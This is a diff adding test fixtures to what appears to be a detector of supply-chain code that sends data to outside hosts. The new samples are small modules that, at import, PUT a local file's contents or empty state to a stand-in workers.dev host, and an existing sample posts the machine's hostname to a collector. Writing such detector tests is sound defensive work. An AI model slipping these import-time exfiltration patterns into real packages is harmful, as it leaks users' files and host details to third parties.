@@ -8,6 +8,26 @@ const workers = ['none', 'workers', 'dev'].join('.');
 examine(sendsToDeadDrop, {
   speaks: [
     {
+      when: 'a cheap host is asked at import, and is sent what another file reads when somebody calls',
+      files: {
+        'index.js': `const { put } = require('./state'); const { load } = require('./files'); put('', {}); exports.push = async key => put(key, await load(key))`,
+        'state.js': `exports.put = (key, state) => fetch('https://${workers}/' + key, { method: 'PUT', body: JSON.stringify(state) })`,
+        'files.js': `const { readFile } = require('fs/promises'); exports.load = async key => JSON.parse(await readFile(key, 'utf8'))`,
+      },
+      weight: 'weak',
+      says: ['connects to'],
+    },
+    {
+      when: 'what another file reads at import goes to a cheap host',
+      files: {
+        'index.js': `const { put } = require('./state'); const { load } = require('./files'); load('.specimen').then(state => put('x', state)); exports.push = async key => put(key, await load(key))`,
+        'state.js': `exports.put = (key, state) => fetch('https://${workers}/' + key, { method: 'PUT', body: JSON.stringify(state) })`,
+        'files.js': `const { readFile } = require('fs/promises'); exports.load = async key => JSON.parse(await readFile(key, 'utf8'))`,
+      },
+      weight: 'strong',
+      says: ['sends data to'],
+    },
+    {
       when: 'an import posts what it knows to a collector',
       files: { 'index.js': `fetch('https://${collector}/0', { method: 'POST', body: require('os').hostname() })` },
       weight: 'proof',
